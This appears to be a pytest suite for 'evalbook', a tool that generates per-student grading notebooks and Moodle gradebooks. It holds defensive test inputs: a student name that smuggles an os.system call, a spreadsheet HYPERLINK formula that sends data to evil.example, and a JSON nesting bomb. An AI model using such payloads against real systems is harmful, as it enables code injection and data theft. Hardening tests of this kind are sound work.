"""The lecturer's class: the roster as spreadsheets write it, one readable folder and one
notebook per student whose data and checker read one variant, names written as literals,
the gradebook and its Moodle CSV, and the faults a real class meets (two kernels on one set,
an unwritable folder, hostile files, formulas in names)."""

from __future__ import annotations

import ast
import csv
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import nbformat
import numpy as np
import pytest

from evalbook.exercises import check, session, start, store
from evalbook.exercises.__main__ import answer_key, main
from evalbook.exercises.build import PLACEHOLDER, SOLUTIONS_DIR, find_root
from evalbook.exercises.checker import expected_answer
from evalbook.exercises.registry import all_exercises, sets_with_variants
from evalbook.exercises.report import collect, write_gradebook, write_html
from evalbook.exercises.roster import RosterError, personalize, read_roster, student_variant

ROOT = find_root(Path(__file__).parent)
INJECTION = 'x", folder=".") ; __import__("os").system("echo pwned")  #'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"clique")'


@pytest.fixture(autouse=True)
def _no_student_and_a_fresh_folder(monkeypatch, tmp_path):
    monkeypatch.delenv(session.STUDENT_ENV, raising=False)
    monkeypatch.delenv(session.FOLDER_ENV, raising=False)
    monkeypatch.chdir(tmp_path)


def _roster(tmp_path, text, encoding="utf-8", name="turma.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def _setup(path: Path) -> tuple[list, list]:
    """The ``start`` calls (set, keywords as values) and the ``VARIANTE`` values of a
    notebook, read from its syntax tree; every code cell must parse."""
    calls, variants = [], []
    for cell in nbformat.read(path, as_version=4).cells:
        if cell.cell_type != "code":
            continue
        tree = ast.parse(cell.source)  # a SyntaxError fails the test
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and getattr(node.func, "id", None) == "start":
                keywords = {
                    k.arg: ast.literal_eval(k.value) for k in node.keywords if k.arg != "variant"
                }
                variant = [ast.unparse(k.value) for k in node.keywords if k.arg == "variant"]
                calls.append((node.args[0].value, keywords, variant))
            if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", None) == "VARIANTE":
                variants.append(ast.literal_eval(node.value))
            names = {n.id for n in ast.walk(tree) if isinstance(n, ast.Name)}
            assert "__import__" not in names, cell.source
    return calls, variants


# ---------------------------------------------------------------------- the roster


HARD_NAMES = [
    ("Pedro D'Ávila", "2024001"),
    ("Luíza Sant'Anna", "2024002"),
    ("Ana Souza", "2024003"),
    ("Ana Souza", "2024004"),
    ("Ana-Maria Costa", ""),
    ("Ana Maria Costa", ""),
    ("João Conceição", "2023-0042"),
    ("Иван Петров", "2024007"),
    ('Ana "Nina" Lima', "2024008"),
    (INJECTION, "2024009"),
    ("C:\\temp\\Zé", "2024010"),
]


def test_every_student_gets_one_readable_folder_and_notebooks_that_parse(tmp_path, capsys):
    rows = "\n".join(
        f'"{name.replace(chr(34), 2 * chr(34))}",{number}' for name, number in HARD_NAMES
    )
    roster = _roster(tmp_path, f"nome,numero\n{rows}\n")
    out = tmp_path / "cadernos"
    argv = ["cadernos", str(roster), "--saida", str(out), "--raiz", str(ROOT)]
    assert main([*argv, "--conjuntos", "01", "04"]) == 0
    printed = capsys.readouterr().out
    folders = sorted(p for p in out.iterdir() if p.is_dir())
    written = sorted(out.glob("*/*.ipynb"))
    assert len(folders) == len(HARD_NAMES) and len(written) == 2 * len(HARD_NAMES)
    assert f"{len(written)} cadernos escritos" in printed  # the count printed is the count written
    names = {p.name for p in folders}
    assert {"Joao_Conceicao_2023-0042", "Ana_Souza_2024003", "Ana_Souza_2024004"} <= names
    assert "Иван_Петров_2024007" in names  # other scripts kept, not all "estudante"
    assert any(n.startswith("Ana-Maria_Costa_") for n in names)
    assert any(n.startswith("Ana_Maria_Costa_") for n in names)
    assert "João Conceição: variante" in printed and "tirada do numero 2023-0042" in printed
    students, _ = read_roster(roster)
    for student in students:
        calls, variants = _setup(out / student.folder / "01_matriz_de_confusao.ipynb")
        assert variants == [student.variant]
        assert calls == [
            ("01", {"student": student.name, "student_id": student.student_id}, ["VARIANTE"])
        ]
        calls, variants = _setup(out / student.folder / "04_kappa_e_concordancia.ipynb")
        assert variants == [student.variant] and calls == [
            ("04", {"student": student.name, "student_id": student.student_id}, ["VARIANTE"])
        ]
    joao = next(s for s in students if s.name == "João Conceição")
    assert joao.student_id == "2023-0042" and joao.variant == student_variant("", "2023-0042")
    with open(out / "turma_indice.csv", encoding="utf-8") as handle:
        index = list(csv.DictReader(handle))
    assert [row["pasta"] for row in index] == [s.folder for s in students]


def test_the_injection_runs_as_a_text_only(tmp_path):
    """The generated setup cell, executed, opens the set for the name itself."""
    (student,) = read_roster(
        _roster(tmp_path, f'nome,numero\n"{INJECTION.replace(chr(34), 2 * chr(34))}",7\n')
    )[0]
    notebook = nbformat.read(ROOT / "exercises/09_intervalos_de_confianca.ipynb", as_version=4)
    mine = personalize(notebook, "09", student, variants=True)
    setup = next(c for c in mine.cells if "start(" in c.source)
    namespace: dict = {}
    exec(compile(setup.source, "setup", "exec"), namespace)
    opened = namespace["exercicios"]
    name = " ".join(INJECTION.split())  # the roster's spaces are tidied, nothing else
    assert opened.student == name and opened.variant == 7 and opened.student_id == "7"
    assert namespace["VARIANTE"] == 7 and opened.path == tmp_path / "progresso_09.json"


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("utf-8-sig", "Nome;Número;E-mail\nJoão Conceição;2024001;joao@x.br\nZé;2024002;\n"),
        ("cp1252", "nome;numero\nJoão Conceição;2024001\nZé;2024002\n"),
        ("utf-16", "nome\tnumero\nJoão Conceição\t2024001\nZé\t2024002\n"),
        ("utf-8", "nome,numero\r\nJoão Conceição,2024001\r\nZé,2024002\r\n"),
    ],
)
def test_a_roster_is_read_as_spreadsheets_write_it(tmp_path, encoding, text):
    students, _ = read_roster(_roster(tmp_path, text, encoding))
    assert [(s.name, s.student_id, s.variant) for s in students] == [
        ("João Conceição", "2024001", 2024001),
        ("Zé", "2024002", 2024002),
    ]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ("nome,numero\nAna\n".encode("utf-16-le"), "UTF-16"),
        (b"\xef\xbb\xbfnome\n\xff\xfe\n", "UTF-8"),
        (b"name,number\nAna,1\n", "'name', 'number'"),
        (b"nome\nAna Souza\nana  souza\n", "linhas 2 e 3"),
        (b"nome,numero\nAna,1\nBia,1\n", "mesma identifica"),
        (b"nome\n\n", "nenhum estudante"),
    ],
)
def test_a_roster_that_cannot_be_read_is_refused_with_a_reason(tmp_path, data, words):
    path = tmp_path / "turma.csv"
    path.write_bytes(data)
    with pytest.raises(RosterError, match=words):
        read_roster(path)


def test_the_command_line_says_what_is_wrong_in_portuguese(tmp_path, capsys):
    roster = _roster(tmp_path, "nome\nAna\n")
    empty = tmp_path / "vazio"
    empty.mkdir()
    for argv, words in [
        (["cadernos", str(roster), "--saida", "x", "--raiz", str(empty)], "passe --raiz"),
        (["gabarito", "06", "--saida", str(tmp_path / "nao/existe.txt")], "não consegui escrever"),
        (["relatorio", str(tmp_path / "nao_existe")], "não existe"),
    ]:
        with pytest.raises(SystemExit) as stop:
            main(argv)
        err = capsys.readouterr().err
        assert stop.value.code == 2 and words in err and "Traceback" not in err


def test_listar_shows_the_titles_in_portuguese(capsys):
    assert main(["listar"]) == 0
    out = capsys.readouterr().out
    assert "Matriz de confusão" in out and "Intervalos de confiança" in out


# ---------------------------------------------------------------------- the variant


def _right_answers_in_the_generated_notebook(run_cells, set_id: str, student) -> list[str]:
    """Execute, in this process, the student's generated notebook with the solution's code
    in the answer cells; return the checks that were not accepted."""
    exercises = ROOT / "exercises"
    (generated,) = exercises.glob(f"{set_id}_*.ipynb")
    notebook = personalize(nbformat.read(generated, as_version=4), set_id, student, variants=True)
    solution = nbformat.read(next((ROOT / SOLUTIONS_DIR).glob(f"{set_id}_*.ipynb")), as_version=4)
    solved = {cell.id: cell.source for cell in solution.cells}
    cells = [
        (cell.id, solved[cell.id] if PLACEHOLDER in cell.source else cell.source)
        for cell in notebook.cells
        if cell.cell_type == "code"
    ]
    namespace, failed = run_cells(cells, generated.name)
    assert namespace["exercicios"].variant == student.variant == namespace["VARIANTE"]
    return failed


@pytest.mark.parametrize("set_id", sets_with_variants())
def test_a_generated_notebooks_right_answers_are_graded_right(tmp_path, set_id, run_cells):
    (student,), _ = read_roster(_roster(tmp_path, "nome,numero\nLuíza Sant'Anna,2024077\n"))
    assert _right_answers_in_the_generated_notebook(run_cells, set_id, student) == []
    record = store.read_document(tmp_path / f"progresso_{set_id}.json")
    assert record["student"] == "Luíza Sant'Anna" and record["student_id"] == "2024077"
    assert record["variant"] == 2024077


def test_the_answer_key_copied_is_accepted():
    """Every number the key prints is read back within the checker's tolerance."""
    for set_id, variant in [("06", None), ("06", 17), ("09", 2024001), ("05", 3)]:
        key = answer_key(set_id, variant).splitlines()[1:]
        for line in key:
            exercise_id, _, shown = line.partition(": ")
            kind = all_exercises()[exercise_id].kind
            if kind == "number":
                assert check(exercise_id, float(shown), variant=variant).correct, line
            elif kind == "numbers":
                values = tuple(float(part.split(" = ")[1]) for part in shown.split(", "))
                assert check(exercise_id, values, variant=variant).correct, line
    assert "06.sse: 215992.90233004963" in answer_key("06")


# ---------------------------------------------------------------------- the session


def test_a_student_is_a_name_or_a_number_and_a_variant_any_whole_number(tmp_path):
    for bad in (["Ana"], {"nome": "Ana"}, True, b"Ana"):
        opened = start("01", student=bad, folder=tmp_path)
        assert str(opened).startswith("❌ O estudante é um nome ou um número")
        assert opened.check("01.n_tipo_i", 3).message == str(opened)
    assert list(tmp_path.iterdir()) == []
    opened = start("09", variant=np.int64(5), student=2024001, folder=tmp_path)
    assert opened.variant == 5 and type(opened.variant) is int and opened.student == "2024001"
    opened.check("09.z_tabela", 1.28)
    assert store.read_document(tmp_path / "progresso_09.json")["variant"] == 5


@pytest.mark.parametrize("confirm", ["no", "False", "não", "0", 1, "sim"])
def test_only_true_confirms_a_reset(tmp_path, confirm):
    exercicios = start("01", student="Ana", folder=tmp_path)
    exercicios.check("01.tipo_i", "FP")
    assert exercicios.reset_progress(confirm=confirm).startswith("Nada apagado")
    assert store.read_document(tmp_path / "progresso_01.json")["items"][2]["tries"] == 1
    assert exercicios.reset_progress(confirm=True).startswith("Apagado")


def test_the_identity_is_asked_once_per_folder_and_matched_loosely(monkeypatch, tmp_path):
    asked = []
    monkeypatch.setenv(session.STUDENT_ENV, "")  # restored after the test: start sets it
    monkeypatch.setattr(session, "_interactive", lambda: True)
    monkeypatch.setattr("builtins.input", lambda prompt: asked.append(prompt) or "Ana Souza")
    start("01").check("01.tipo_i", "FP")
    monkeypatch.setenv(session.STUDENT_ENV, "")  # a new kernel
    restarted = start("01")  # not asked: remembered in the folder
    assert len(asked) == 1 and restarted.student == "Ana Souza"
    assert "Progresso recuperado" in str(restarted)
    again = start("01", student="  ana   SOUZA ")  # case, spaces: the same student
    assert "Progresso recuperado" in str(again) and "outro estudante" not in str(again)
    assert start("01", student="Ána Souza").progress().table.loc["01.tipo_i", "tentativas"] == 1


def test_enter_at_the_question_does_not_silently_stop_saving(monkeypatch, tmp_path):
    answers = iter(["", "  ", ""])
    monkeypatch.setenv(session.STUDENT_ENV, "")
    monkeypatch.setattr(session, "_interactive", lambda: True)
    monkeypatch.setattr("builtins.input", lambda prompt: next(answers))
    opened = start("01")
    assert "Nenhum nome foi digitado" in str(opened)
    opened.check("01.tipo_i", "FP")
    assert store.read_document(tmp_path / "progresso_01.json")["items"][2]["tries"] == 1


def test_an_unwritable_folder_gives_one_message_and_the_verdict(monkeypatch, tmp_path):
    blocked = tmp_path / "arquivo"
    blocked.write_text("not a folder")
    opened = start("01", student="Ana", folder=blocked / "pasta")
    assert "Não consigo salvar o seu registro" in str(opened)
    result = opened.check("01.n_tipo_i", 3)
    assert result.correct is True and result.message.startswith("✅ Correto!")
    assert opened.progress().table.loc["01.n_tipo_i", "tentativas"] == 1
    # a folder that loses its permission mid-session, then gets it back: nothing lost
    exercicios = start("01", student="Bia", folder=tmp_path)
    real = store.write_atomic

    def denied(path, document):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(store, "write_atomic", denied)
    first = exercicios.check("01.n_tipo_i", 2)
    second = exercicios.check("01.n_tipo_i", 3)
    assert "Não consigo salvar" in first.message and first.correct is False
    assert second.message.startswith("✅ Correto!") and "Não consigo" not in second.message
    monkeypatch.setattr(store, "write_atomic", real)
    third = exercicios.check("01.tipo_i", "FP")
    assert "voltou a ser salvo" in third.message
    rows = {r["item"]: r for r in store.read_document(tmp_path / "progresso_01.json")["items"]}
    assert rows["01.n_tipo_i"]["tries"] == 2 and rows["01.n_tipo_i"]["result"] == "certo"
    assert rows["01.tipo_i"]["tries"] == 1


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("[" * 100_000 + "]" * 100_000, "aninhamento profundo"),
        (
            '{"format": "evalbook-exercises", "format_version": ' + "9" * 5000 + "}",
            "5000 algarismos",
        ),
        (None, "não é um arquivo comum"),
    ],
)
def test_a_hostile_progress_file_is_set_aside_and_saving_goes_on(tmp_path, content, words):
    path = tmp_path / "progresso_01.json"
    if content is None:
        path.symlink_to("/dev/zero")
    else:
        path.write_text(content)
    opened = start("01", student="Ana", folder=tmp_path)
    assert "⚠️ Atenção" in str(opened) and words in str(opened)
    assert opened.check("01.n_tipo_i", 3).correct
    document = store.read_document(path)
    assert next(r for r in document["items"] if r["item"] == "01.n_tipo_i")["result"] == "certo"
    assert len([p for p in tmp_path.iterdir() if ".corrompido-" in p.name]) == 1


def test_an_orphan_temporary_is_removed(tmp_path):
    orphan = tmp_path / ".progresso_01.json.abc123.tmp"
    orphan.write_text('{"half": ')
    start("01", student="Ana", folder=tmp_path)
    assert not orphan.exists()


def test_a_version_1_record_is_still_read(tmp_path):
    opened = start("01", student="Ana", folder=tmp_path)
    opened.check("01.tipo_i", "FP")
    document = json.loads((tmp_path / "progresso_01.json").read_text("utf-8"))
    old = {k: v for k, v in document.items() if k not in ("student_id", "sha256")}
    old["format_version"] = 1
    old["items"] = [{k: v for k, v in r.items() if k != "choices"} for r in old["items"]]
    (tmp_path / "progresso_01.json").write_text(json.dumps(store.seal(old)), "utf-8")
    restarted = start("01", student="Ana", folder=tmp_path)
    assert "Progresso recuperado" in str(restarted)
    assert restarted.progress().table.loc["01.tipo_i", "resultado"] == "certo"
    assert store.read_document(tmp_path / "progresso_01.json")["format_version"] == 2


_SAVER = textwrap.dedent(
    """
    import sys
    from evalbook.exercises import start
    exercicios = start("01", student="Ana", student_id="1", folder=sys.argv[1])
    print("ready", flush=True)
    sys.stdin.readline()
    for n in range(100):
        result = exercicios.check("01.n_tipo_i", 2 if n % 2 else 7)
        assert "Não consigo" not in result.message, result.message
    print("done", flush=True)
    """
)


@pytest.mark.slow
def test_two_processes_saving_one_set_lose_no_save(tmp_path):
    """Two kernels of one set in one folder, 100 answers each, at the same time."""
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    processes = [
        subprocess.Popen(
            [sys.executable, "-c", _SAVER, str(tmp_path)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            env=env,
        )
        for _ in range(2)
    ]
    for process in processes:
        assert process.stdout.readline().strip() == b"ready"
    for process in processes:
        process.stdin.write(b"go\n")
        process.stdin.flush()
    for process in processes:
        assert process.stdout.readline().strip() == b"done"
        assert process.wait(timeout=120) == 0
    document = store.read_document(tmp_path / "progresso_01.json")
    row = next(r for r in document["items"] if r["item"] == "01.n_tipo_i")
    assert row["tries"] == 200 and row["result"] == "errado"


# ---------------------------------------------------------------------- the report


def _export(folder: Path, set_id: str, name: str, student_id, answers: dict, *, variant=None):
    computer = folder.parent / "computadores" / f"{name}_{student_id}"  # the student's own
    computer.mkdir(parents=True, exist_ok=True)
    exercicios = start(
        set_id, student=name, student_id=student_id, variant=variant, folder=computer
    )
    for exercise_id, values in answers.items():
        for value in values:
            exercicios.check(exercise_id, value)
    return exercicios.export_progress(folder / f"{set_id}_{student_id}.json")


def test_the_gradebook_knows_students_by_id_and_escapes_formulas(tmp_path):
    exports = tmp_path / "entregas"
    exports.mkdir()
    quoted = FORMULA.replace('"', '""')
    lines = [
        "nome,numero,email",
        "Ana Souza,1,ana@x.br",
        "Ana Souza,2,",
        f'"{quoted}",3,',
        "Davi,4,",
    ]
    roster = _roster(tmp_path, "\n".join(lines) + "\n")
    _export(exports, "01", "Ana Souza", "1", {"01.tipo_i": ["FN", "FP"], "01.n_tipo_i": [3]})
    _export(exports, "01", "Ana Souza", "2", {"01.tipo_i": ["FP"], "01.threshold_menor": ["x"]})
    _export(exports, "01", FORMULA, "3", {"01.explique": [FORMULA + " e mais palavras"]})
    _export(exports, "04", "Ana Souza", "1", {"04.kappa": [0.5]})
    _export(exports, "01", "Eva Fora", "9", {"01.tipo_i": ["FP"]})  # not on the list
    students, _ = read_roster(roster)
    report = collect(exports, roster=students)
    assert len(report.documents) == 5 and report.rejected == []
    assert [s.name for s in report.never_handed_in()] == ["Davi"]
    assert [d["student"] for d in report.not_on_the_list()] == ["Eva Fora"]
    book = report.gradebook().set_index("id")
    assert book.loc["1", "01_pontos"] == 2 and book.loc["1", "01_primeira"] == 1
    assert book.loc["2", "01_pontos"] == 1 and book.loc["1", "04_pontos"] == 0
    grades = write_gradebook(report, tmp_path / "notas.csv")
    with open(grades, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["idnumber", "email", "nome", "Exercícios 01", "Exercícios 04", "Total"]
    assert [row[0] for row in rows[1:]] == ["1", "2", "3", "4"]  # every student of the list
    assert rows[1][1:] == ["ana@x.br", "Ana Souza", "2", "0", "2"]
    assert rows[4][3:] == ["", "", ""]  # never handed in: no grade
    assert rows[3][2] == "'" + FORMULA
    exported = start("01", student=FORMULA).export_progress(tmp_path / "p.csv")
    for table in (grades, exported):
        with open(table, encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    page = write_html(report, tmp_path / "turma.html").read_text("utf-8")
    assert "Diário de notas" in page and "Nunca entregaram (1)" in page and "Davi" in page
    assert page.count("Ana Souza") >= 4 and "Eva Fora" in page


def test_the_report_leaves_out_what_it_cannot_count_and_goes_on(tmp_path, capsys):
    exports = tmp_path / "entregas"
    exports.mkdir()
    source = _export(exports, "09", "Ana", "1", {"09.z_tabela": [1.28]}, variant=3)
    document = json.loads(source.read_text("utf-8"))
    older = {**document, "items": document["items"][:-1]}  # an older version of the set
    older.pop("sha256")
    (exports / "antigo.json").write_text(json.dumps(store.seal(older)), "utf-8")
    other = {**document, "set": "99", "items": []}
    other.pop("sha256")
    (exports / "conjunto_99.json").write_text(json.dumps(store.seal(other)), "utf-8")
    (exports / "bomba.json").write_text("[" * 100_000 + "]" * 100_000)
    (exports / "zero.json").symlink_to("/dev/zero")
    html = tmp_path / "t.html"
    argv = ["relatorio", str(exports), "--html", str(html), "--csv", str(tmp_path / "t.csv")]
    assert main([*argv, "--notas", str(tmp_path / "n.csv")]) == 0
    err = capsys.readouterr().err
    assert "antigo.json: foi feito com outra versão do conjunto 09" in err
    assert "conjunto_99.json: é do conjunto 99, que este curso não tem" in err
    assert "bomba.json: tem aninhamento profundo demais" in err
    assert "zero.json: não é um arquivo comum" in err
    assert "Ana" in html.read_text("utf-8")


def test_the_report_counts_students_and_their_mistakes_once(tmp_path):
    exports = tmp_path / "entregas"
    exports.mkdir()
    mistake = expected_answer("04.kappa").mistakes[0][0]
    _export(exports, "04", "Ana", "1", {"04.kappa": [mistake, mistake, mistake]})
    _export(exports, "04", "Bia", "2", {"04.kappa": [mistake]})
    _export(exports, "01", "Ana", "1", {"01.tipo_i": ["FP"]})
    report = collect(exports)
    row = report.table().set_index("item").loc["04.kappa"]
    assert row.estudantes_com_erro_conhecido == 2
    page = write_html(report, tmp_path / "t.html").read_text("utf-8")
    assert "3 registros lidos de 2 estudantes; 0 arquivos deixados de fora." in page


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root writes anywhere")
def test_a_folder_without_write_permission(tmp_path):
    folder = tmp_path / "somente_leitura"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        opened = start("01", student="Ana", folder=folder)
        assert "Não consigo salvar o seu registro" in str(opened)
        assert opened.check("01.n_tipo_i", 3).message.startswith("✅ Correto!")
    finally:
        folder.chmod(0o755)
